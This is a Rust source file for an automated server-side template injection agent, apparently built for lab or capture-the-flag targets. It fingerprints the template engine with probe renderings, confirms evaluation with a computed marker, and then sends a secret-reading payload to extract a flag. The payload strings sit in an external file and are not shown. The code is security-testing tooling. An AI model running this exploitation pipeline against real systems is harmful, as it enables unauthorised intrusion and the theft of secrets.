//! Template-injection agent: engine fingerprinting via the probe decision
//! table, then engine-specific exploitation with computed markers.

use std::collections::BTreeMap;

use async_trait::async_trait;
use once_cell::sync::Lazy;
use serde::{Deserialize, Serialize};

use super::{Agent, AgentCx, AgentError, AgentOutput};
use crate::state::{
    AttemptOutcome, Channel, Evidence, EvidenceDetail, Finding, InjectionPoint, VulnClass,
};

pub const SSTI_TABLE_JSON: &str = include_str!("../../data/signatures/ssti-table-v1.json");

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum TemplateEngine {
    JinjaLike,
    TwigLike,
    ErbLike,
    FreemarkerLike,
    VelocityLike,
    Unknown,
}

impl TemplateEngine {
    pub fn as_str(&self) -> &'static str {
        match self {
            TemplateEngine::JinjaLike => "jinja_like",
            TemplateEngine::TwigLike => "twig_like",
            TemplateEngine::ErbLike => "erb_like",
            TemplateEngine::FreemarkerLike => "freemarker_like",
            TemplateEngine::VelocityLike => "velocity_like",
            TemplateEngine::Unknown => "unknown",
        }
    }

    fn parse(s: &str) -> TemplateEngine {
        match s {
            "jinja_like" => TemplateEngine::JinjaLike,
            "twig_like" => TemplateEngine::TwigLike,
            "erb_like" => TemplateEngine::ErbLike,
            "freemarker_like" => TemplateEngine::FreemarkerLike,
            "velocity_like" => TemplateEngine::VelocityLike,
            _ => TemplateEngine::Unknown,
        }
    }
}

/// Engine identification: determined only by the decision table over
/// observed probe renderings.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct EngineId {
    pub engine: TemplateEngine,
    pub probe_results: BTreeMap<String, String>,
}

#[derive(Debug, Deserialize)]
struct TableRule {
    engine: String,
    require: BTreeMap<String, String>,
}

#[derive(Debug, Deserialize)]
struct ExploitTemplates {
    compute: String,
    read_secret: String,
}

#[derive(Debug, Deserialize)]
struct SstiTable {
    schema: String,
    probes: BTreeMap<String, String>,
    rules: Vec<TableRule>,
    exploits: BTreeMap<String, ExploitTemplates>,
}

static TABLE: Lazy<SstiTable> = Lazy::new(|| {
    let table: SstiTable = serde_json::from_str(SSTI_TABLE_JSON).expect("ssti table parses");
    assert_eq!(table.schema, "awe-ssti-table-v1");
    table
});

/// Apply the decision table to observed renderings. A probe "rendered" a
/// value when the value appears in the response and neither the literal
/// probe nor the value appear on the baseline page.
pub fn decide_engine(observations: &BTreeMap<String, String>) -> TemplateEngine {
    for rule in &TABLE.rules {
        let hit = rule
            .require
            .iter()
            .all(|(key, expected)| observations.get(key).map(|o| o == expected).unwrap_or(false));
        if hit {
            return TemplateEngine::parse(&rule.engine);
        }
    }
    TemplateEngine::Unknown
}

pub struct SstiScan {
    pub finding: Option<Finding>,
    pub engine_id: Option<EngineId>,
}

/// Phase 1 sends the probe matrix; phase 2 sends the engine-specific
/// exploitation templates, whose success is a computed marker (arithmetic on
/// scan-unique integers) or the lab flag.
pub async fn ssti_scan(
    cx: &mut AgentCx<'_>,
    point: &InjectionPoint,
) -> Result<SstiScan, AgentError> {
    let siblings = cx.siblings(point);
    let session = cx.session.clone();

    let baseline = cx
        .engine
        .execute_tagged(
            point,
            point.baseline_value.as_bytes(),
            &siblings,
            session.as_ref(),
            "probe",
        )
        .await?;
    let baseline_body = baseline.body_text().into_owned();

    let mut probe_results: BTreeMap<String, String> = BTreeMap::new();
    let mut rendered: BTreeMap<String, String> = BTreeMap::new();
    let expected_values: Vec<String> = {
        let mut v: Vec<String> = TABLE
            .rules
            .iter()
            .flat_map(|r| r.require.values().cloned())
            .collect();
        v.sort();
        v.dedup();
        v
    };

    for (key, probe) in &TABLE.probes {
        if cx.out_of_time() {
            break;
        }
        if cx.suppressed(&point.key(), VulnClass::Ssti, probe.as_bytes()) {
            continue;
        }
        let resp = cx
            .engine
            .execute_tagged(point, probe.as_bytes(), &siblings, session.as_ref(), "probe")
            .await?;
        let body = resp.body_text().into_owned();
        let mut observed = String::from("literal");
        for value in &expected_values {
            if body.contains(value.as_str()) && !baseline_body.contains(value.as_str()) {
                observed = value.clone();
                break;
            }
        }
        // A literal echo of the probe means no evaluation happened.
        if observed != *probe && body.contains(probe.as_str()) {
            observed = "literal".to_string();
        }
        let outcome = if observed == "literal" {
            AttemptOutcome::NoSignal
        } else {
            AttemptOutcome::PartialSignal
        };
        cx.register(&point.key(), VulnClass::Ssti, probe.as_bytes(), outcome, body.as_bytes());
        probe_results.insert(probe.clone(), observed.clone());
        if observed != "literal" {
            rendered.insert(key.clone(), observed);
        }
    }

    if rendered.is_empty() {
        // Probes reflected verbatim: not vulnerable, stop after phase 1.
        return Ok(SstiScan { finding: None, engine_id: None });
    }

    let engine = decide_engine(&rendered);
    let engine_id = EngineId { engine, probe_results };
    if engine == TemplateEngine::Unknown {
        return Ok(SstiScan { finding: None, engine_id: Some(engine_id) });
    }

    let templates = TABLE.exploits.get(engine.as_str()).expect("engine has exploit templates");
    // Computed marker: a product two scan-unique integers only evaluation
    // can produce.
    let a = cx.markers.next_int(1_000, 10_000);
    let b = cx.markers.next_int(1_000, 10_000);
    let expected = (a * b).to_string();
    let compute_payload = templates
        .compute
        .replace("%A%", &a.to_string())
        .replace("%B%", &b.to_string());
    let compute = cx
        .engine
        .execute_tagged(point, compute_payload.as_bytes(), &siblings, session.as_ref(), "exploit")
        .await?;
    let compute_body = compute.body_text().into_owned();
    let computed = compute_body.contains(&expected);
    cx.register(
        &point.key(),
        VulnClass::Ssti,
        compute_payload.as_bytes(),
        if computed { AttemptOutcome::PartialSignal } else { AttemptOutcome::NoSignal },
        compute_body.as_bytes(),
    );
    if !computed {
        return Ok(SstiScan { finding: None, engine_id: Some(engine_id) });
    }

    let read_payload = templates.read_secret.clone();
    let read = cx
        .engine
        .execute_tagged(point, read_payload.as_bytes(), &siblings, session.as_ref(), "exploit")
        .await?;
    let read_body = read.body_text().into_owned();
    let flag = cx.flag_in(read_body.as_bytes());

    let (final_payload, data, last_body) = if flag.is_some() {
        (read_payload.clone(), read_body.clone().into_bytes(), read_body.clone())
    } else {
        (compute_payload.clone(), expected.clone().into_bytes(), compute_body.clone())
    };
    let mut trace = vec![compute.request.clone()];
    if flag.is_some() {
        trace.push(read.request.clone());
    }
    let finding = Finding {
        vuln_class: VulnClass::Ssti,
        point: point.key(),
        payload: final_payload.into_bytes(),
        evidence: Evidence {
            detail: EvidenceDetail::ExtractedData { data },
            request_trace: trace,
        },
        solved_flag: flag,
        elapsed_s: cx.elapsed_s(),
        tokens_spent: cx.tokens_spent(),
        exploit_attempts: 2,
    };
    cx.emit_finding(finding.clone(), last_body.as_bytes());
    Ok(SstiScan { finding: Some(finding), engine_id: Some(engine_id) })
}

pub struct SstiAgent;

#[async_trait]
impl Agent for SstiAgent {
    fn class(&self) -> VulnClass {
        VulnClass::Ssti
    }

    async fn run(&self, cx: &mut AgentCx<'_>) -> Result<AgentOutput, AgentError> {
        let mut output = AgentOutput::default();
        let mut engines = serde_json::Map::new();
        let points: Vec<InjectionPoint> = cx
            .state
            .surface
            .iter()
            .filter(|p| matches!(p.channel, Channel::Query | Channel::BodyField))
            .cloned()
            .collect();
        for point in points {
            if cx.out_of_time() {
                break;
            }
            match ssti_scan(cx, &point).await {
                Ok(scan) => {
                    if let Some(engine_id) = &scan.engine_id {
                        engines.insert(
                            point.key().to_string(),
                            serde_json::to_value(engine_id).expect("engine id serializes"),
                        );
                    }
                    if scan.finding.is_some() {
                        output.findings_added += 1;
                        if cx.state.solved() {
                            break;
                        }
                    }
                }
                Err(err) if err.is_budget() => return Err(err),
                Err(err) => tracing::debug!(%err, "ssti scan failed on point"),
            }
        }
        output.notes = serde_json::json!({ "engines": engines });
        Ok(output)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn observed(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
        pairs.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect()
    }

    #[test]
    fn jinja_rule_needs_string_repetition() {
        assert_eq!(
            decide_engine(&observed(&[("A", "49"), ("E", "7777777")])),
            TemplateEngine::JinjaLike
        );
    }

    #[test]
    fn twig_rule_casts_to_49_twice() {
        assert_eq!(
            decide_engine(&observed(&[("A", "49"), ("E", "49")])),
            TemplateEngine::TwigLike
        );
    }

    #[test]
    fn erb_and_dollar_brace_branches() {
        assert_eq!(decide_engine(&observed(&[("C", "49")])), TemplateEngine::ErbLike);
        assert_eq!(decide_engine(&observed(&[("B", "49")])), TemplateEngine::FreemarkerLike);
        assert_eq!(
            decide_engine(&observed(&[("B", "49"), ("D", "49")])),
            TemplateEngine::VelocityLike
        );
    }

    #[test]
    fn no_evaluation_is_unknown() {
        assert_eq!(decide_engine(&BTreeMap::new()), TemplateEngine::Unknown);
    }

    #[test]
    fn table_has_exploits_for_every_rule_engine() {
        for rule in &TABLE.rules {
            assert!(
                TABLE.exploits.contains_key(&rule.engine),
                "exploit templates for {}",
                rule.engine
            );
        }
        assert_eq!(TABLE.probes.len(), 5);
    }
}
